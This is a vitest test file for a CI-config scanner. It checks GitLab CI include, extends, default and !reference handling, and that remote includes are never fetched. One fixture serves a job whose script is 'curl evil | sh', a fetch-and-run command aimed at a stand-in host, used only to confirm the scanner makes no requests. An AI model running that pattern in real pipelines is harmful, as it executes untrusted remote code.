// GitLab CI pipelines composed as GitLab does: local includes, !reference, extends, default.
import { once } from 'node:events';
import { createServer } from 'node:http';
import { symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { kindContext, readFile } from '../src/ingest.js';
import type { ParsedFile } from '../src/kinds.js';
import { locate } from '../src/locate.js';
import { EAGER_PARSERS } from '../src/parse/eager.js';
import { gitlabUnit } from '../src/units/gitlab.js';
import { tempRepo, tollgate } from './helpers/cli.js';

/** The unit of `<dir>/.gitlab-ci.yml` in a fresh repository of the given files. */
function pipeline(files: Record<string, string>, rootFile = '.gitlab-ci.yml') {
  const dir = tempRepo(files);
  const read = readFile(join(dir, rootFile), rootFile, { format: 'yaml' }, 1 << 20);
  if (!('file' in read)) throw new Error(read.problem.message);
  const parseErrors: string[] = [];
  const ctx = kindContext(
    dir,
    new Map<string, ParsedFile>(),
    1 << 20,
    (rel, r) => {
      if ('file' in r) parseErrors.push(...r.errors.map((e) => `${rel}:${e.line}: ${e.message}`));
    },
    undefined,
    EAGER_PARSERS,
  );
  const unit = gitlabUnit(read.file, ctx);
  const input = unit.input as { jobs: Record<string, Record<string, unknown>>; templates: Record<string, unknown>; default: Record<string, unknown>; include: unknown[]; stages?: unknown };
  const where = (...path: (string | number)[]) => {
    const at = locate(unit.index, [0, ...path]);
    return at && `${at.file ?? unit.file}:${at.line}:${at.column}`;
  };
  return { unit, input, where, parseErrors, dir };
}

describe('GitLab CI composition', () => {
  it('merges local includes under the including file, nested and by wildcard, in order', () => {
    const { input, unit, where } = pipeline({
      '.gitlab-ci.yml': 'include:\n  - local: /ci/base.yml\n  - ci/jobs/*.yml\nstages: [build, test]\nvariables:\n  PY: "3.12"\n',
      'ci/base.yml': 'include: ci/nested.yml\nvariables:\n  PY: "3.10"\n  POETRY: "1.8"\n',
      'ci/nested.yml': '.base:\n  image: python:3.10\n',
      'ci/jobs/a.yml': 'lint:\n  extends: .base\n  script: [ruff check .]\n',
      'ci/jobs/b.yml': 'test:\n  script: [pytest]\n',
      'ci/jobs/readme.md': 'not yaml',
    });
    expect(unit.problems).toBeUndefined();
    expect(unit.files).toEqual(['.gitlab-ci.yml', 'ci/base.yml', 'ci/nested.yml', 'ci/jobs/a.yml', 'ci/jobs/b.yml']);
    // Maps merge key by key and the including file wins.
    expect((input as unknown as { variables: unknown }).variables).toEqual({ PY: '3.12', POETRY: '1.8' });
    expect(Object.keys(input.jobs)).toEqual(['lint', 'test']);
    expect(input.jobs.lint).toEqual({ image: 'python:3.10', script: ['ruff check .'] });
    expect(where('jobs', 'lint', 'image')).toBe('ci/nested.yml:2:3');
    expect(where('variables', 'POETRY')).toBe('ci/base.yml:4:3');
    expect(where('variables', 'PY')).toBe('.gitlab-ci.yml:6:3');
    expect(input.include).toEqual([
      { type: 'local', location: '/ci/base.yml', resolved: true, from: '.gitlab-ci.yml' },
      { type: 'local', location: 'ci/nested.yml', resolved: true, from: 'ci/base.yml' },
      { type: 'local', location: 'ci/jobs/a.yml', resolved: true, from: '.gitlab-ci.yml' },
      { type: 'local', location: 'ci/jobs/b.yml', resolved: true, from: '.gitlab-ci.yml' },
    ]);
  });

  it('resolves extends in order, deep-merging maps and replacing lists, and keeps hidden jobs apart', () => {
    const { input, where } = pipeline({
      '.gitlab-ci.yml': [
        '.gpu:',
        '  tags: [gpu, a100]',
        '  variables: {CUDA: "12.4", NCCL_DEBUG: WARN}',
        '.python:',
        '  extends: .gpu',
        '  image: python:3.11',
        '  before_script: [pip install -e .]',
        'train:',
        '  extends: [.python, .retry]',
        '  variables: {NCCL_DEBUG: INFO}',
        '  tags: [gpu]',
        '  script: [python train.py]',
        '.retry:',
        '  retry: 2',
        '',
      ].join('\n'),
    });
    expect(input.jobs.train).toEqual({
      tags: ['gpu'],
      variables: { CUDA: '12.4', NCCL_DEBUG: 'INFO' },
      image: 'python:3.11',
      before_script: ['pip install -e .'],
      retry: 2,
      script: ['python train.py'],
    });
    expect(Object.keys(input.templates)).toEqual(['.gpu', '.python', '.retry']);
    expect(where('jobs', 'train', 'variables', 'CUDA')).toBe('.gitlab-ci.yml:3:15');
    expect(where('jobs', 'train', 'retry')).toBe('.gitlab-ci.yml:14:3');
  });

  it('gives jobs the defaults they lack, unless inherit says otherwise', () => {
    const { input, where } = pipeline({
      '.gitlab-ci.yml': [
        'image: ruby:3.3',
        'default:',
        '  image: python:3.11',
        '  tags: [shared]',
        '  retry: 1',
        'a:',
        '  script: [x]',
        'b:',
        '  image: alpine:3.19',
        '  inherit: {default: false}',
        '  script: [x]',
        'c:',
        '  inherit: {default: [tags]}',
        '  script: [x]',
        '',
      ].join('\n'),
    });
    expect(input.jobs.a).toEqual({ script: ['x'], image: 'python:3.11', tags: ['shared'], retry: 1 });
    expect(input.jobs.b).toEqual({ image: 'alpine:3.19', inherit: { default: false }, script: ['x'] });
    expect(input.jobs.c).toEqual({ inherit: { default: ['tags'] }, script: ['x'], tags: ['shared'] });
    expect(where('jobs', 'a', 'image')).toBe('.gitlab-ci.yml:3:3');
    expect(input.default).toEqual({ image: 'python:3.11', retry: 1, tags: ['shared'] });
  });

  it('splices !reference into scripts and resolves it anywhere else', () => {
    const { input, unit, where } = pipeline({
      '.gitlab-ci.yml': [
        '.setup:',
        '  script: [pip install -r requirements.txt, dvc pull]',
        '  variables: {DVC_REMOTE: s3}',
        'train:',
        '  variables: !reference [.setup, variables]',
        '  script:',
        '    - !reference [.setup, script]',
        '    - python train.py',
        '',
      ].join('\n'),
    });
    expect(unit.problems).toBeUndefined();
    expect(input.jobs.train).toEqual({ variables: { DVC_REMOTE: 's3' }, script: ['pip install -r requirements.txt', 'dvc pull', 'python train.py'] });
    expect(where('jobs', 'train', 'script', 1)).toBe('.gitlab-ci.yml:2:45');
  });

  it('reports what GitLab rejects at the place it is written', () => {
    const { unit } = pipeline({
      '.gitlab-ci.yml': [
        'include:',
        '  - local: ci/absent.yml',
        '  - local: ../outside.yml',
        '  - local: "ci/none-*.yml"',
        'a:',
        '  extends: b',
        '  script: [!reference [.x, script]]',
        'b:',
        '  extends: a',
        'c:',
        '  extends: .missing',
        '  script: !unknown x',
        '',
      ].join('\n'),
    });
    expect(unit.problems?.map((p) => `${p.line}:${p.column} ${p.message}`)).toEqual([
      '2:5 local include "ci/absent.yml": no such file',
      '3:5 local include "../outside.yml" points outside the project; local includes are paths inside the repository',
      '4:5 local include "ci/none-*.yml" matches no file',
      '7:12 !reference [".x","script"] names nothing in the pipeline; fix the job or key name',
      '12:11 unknown tag !unknown: GitLab CI knows only !reference',
      '6:3 extends of job "a" loops or nests more than 11 levels',
      '11:3 job "c" extends ".missing", which is not a job or template of this pipeline',
    ]);
  });

  it('includes each file once, even in a cycle, and never follows a symbolic link', () => {
    const files = { '.gitlab-ci.yml': 'include: [a.yml, link.yml]\n', 'a.yml': 'include: b.yml\nj1: {script: [x]}\n', 'b.yml': 'include: a.yml\nj2: {script: [y]}\n', 'target.yml': 'evil: {script: [z]}\n' };
    const dir = tempRepo(files);
    symlinkSync(join(dir, 'target.yml'), join(dir, 'link.yml'));
    const read = readFile(join(dir, '.gitlab-ci.yml'), '.gitlab-ci.yml', { format: 'yaml' }, 1 << 20);
    if (!('file' in read)) throw new Error('unreadable');
    const unit = gitlabUnit(read.file, kindContext(dir, new Map(), 1 << 20, () => undefined, undefined, EAGER_PARSERS));
    expect(Object.keys((unit.input as { jobs: object }).jobs)).toEqual(['j2', 'j1']);
    expect(unit.problems?.map((p) => p.message)).toEqual(['local include "link.yml": a symbolic link; tollgate does not follow links out of the scanned tree']);
  });

  it('reports remote, project, template and component includes as unresolved and never fetches them', async () => {
    let requests = 0;
    const server = createServer((_req, res) => {
      requests++;
      res.end('evil: {script: [curl evil | sh]}\n');
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const port = (server.address() as { port: number }).port;
    try {
      const dir = tempRepo({
        '.gitlab-ci.yml': [
          'include:',
          `  - remote: http://127.0.0.1:${port}/ci.yml`,
          `  - http://127.0.0.1:${port}/short.yml`,
          '  - project: platform/templates',
          '    ref: v2',
          '    file: [/a.yml, /b.yml]',
          '  - template: Security/SAST.gitlab-ci.yml',
          '  - component: gitlab.example.com/ci/lint@1.0',
          'test:',
          '  script: [pytest]',
          '',
        ].join('\n'),
      });
      const r = tollgate(['check', dir, '--format', 'json']);
      expect(r.stderr).toBe('');
      const report = JSON.parse(r.stdout) as { files: Array<Record<string, unknown>> };
      expect(report.files).toEqual([
        {
          file: '.gitlab-ci.yml',
          kind: 'gitlab_ci',
          detectedBy: 'path',
          unresolved: [
            { type: 'remote', location: `http://127.0.0.1:${port}/ci.yml`, line: 2, column: 5 },
            { type: 'remote', location: `http://127.0.0.1:${port}/short.yml`, line: 3, column: 5 },
            { type: 'project', location: 'platform/templates:/a.yml@v2', line: 4, column: 5 },
            { type: 'project', location: 'platform/templates:/b.yml@v2', line: 4, column: 5 },
            { type: 'template', location: 'Security/SAST.gitlab-ci.yml', line: 7, column: 5 },
            { type: 'component', location: 'gitlab.example.com/ci/lint@1.0', line: 8, column: 5 },
          ],
        },
      ]);
      const text = tollgate(['check', dir]);
      expect(text.stdout).toContain(`note: .gitlab-ci.yml:2:5: remote include http://127.0.0.1:${port}/ci.yml was not fetched, so its jobs were not checked`);
      expect(requests).toBe(0);
    } finally {
      server.close();
    }
  });

  it('reports a finding inherited from an included file in that file', () => {
    const dir = tempRepo({
      '.gitlab-ci.yml': 'include: ci/base.yml\ntrain:\n  extends: .base\n  script: [python train.py]\n',
      'ci/base.yml': '# shared\n.base:\n  image: pytorch/pytorch:2.3.1-cuda12.1-cudnn8-runtime\n',
    });
    const r = tollgate(['check', dir, '--format', 'json']);
    const report = JSON.parse(r.stdout) as { findings: Array<Record<string, unknown>>; files: unknown[] };
    expect(report.findings).toEqual([expect.objectContaining({ rule: 'TG-GITLAB-001', file: 'ci/base.yml', line: 3, column: 3, resource: 'jobs.train' })]);
    expect(report.files).toEqual([
      { file: '.gitlab-ci.yml', kind: 'gitlab_ci', detectedBy: 'path' },
      { file: 'ci/base.yml', kind: 'gitlab_ci', detectedBy: 'include', includedBy: '.gitlab-ci.yml' },
    ]);
  });
});
